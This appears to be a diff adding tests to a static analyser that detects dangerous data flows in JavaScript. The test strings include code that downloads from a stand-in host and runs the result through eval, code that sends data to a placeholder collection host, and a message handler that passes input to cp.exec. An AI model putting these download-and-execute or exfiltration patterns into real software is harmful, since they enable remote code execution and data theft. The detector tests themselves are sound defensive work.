@@ -36,6 +36,31 @@ describe('functions that are called again', () => {
     }
   });
 
+  it('are made for each name that what makes them is called with', () => {
+    const make = (names: string): readonly string[] =>
+      flowsOf(
+        `const on = (name) => (text) => globalThis[name](text); const [a, b] = [${names}].map((name) => on(name)); https.get('https://load.invalid', (r) => r.on('data', (d) => { a(d + ''); b(d + ''); }));`,
+      );
+    assert.deepEqual(make("'parseInt', 'eval'"), ['downloaded>evaluated']);
+    assert.deepEqual(make("'parseInt', 'Number'"), []);
+  });
+
+  it('give what they return where they may throw as well', () => {
+    const found = `for (const one of list) if (one.id === id) return one; throw new Error('none');`;
+    for (const body of [
+      `if (id) return id; throw new Error('none');`,
+      found,
+      `switch (id) { case 'a': return 1; default: throw new Error('none'); }`,
+      `if (list.length > id) return list; return fail();`,
+    ]) {
+      const code = `function fail() { throw new Error('none'); } function find(list, id) { ${body} }
+        find(process.argv, process.env.A_NAME); https.request('https://collect.invalid').end(s);`;
+      assert.deepEqual(flowsOf(code), ['credential-file>network@collect.invalid'], body);
+    }
+    const certain = `function find() { throw new Error('none'); } find(); https.request('https://collect.invalid').end(s);`;
+    assert.deepEqual(flowsOf(certain), []);
+  });
+
   it('as handlers find at the end what was registered after them', () => {
     for (const code of [
       `const table = {}; client.on('message', (t, m) => { const h = table[t]; if (h) h(m); }); table.run = (m) => cp.exec(m);`,
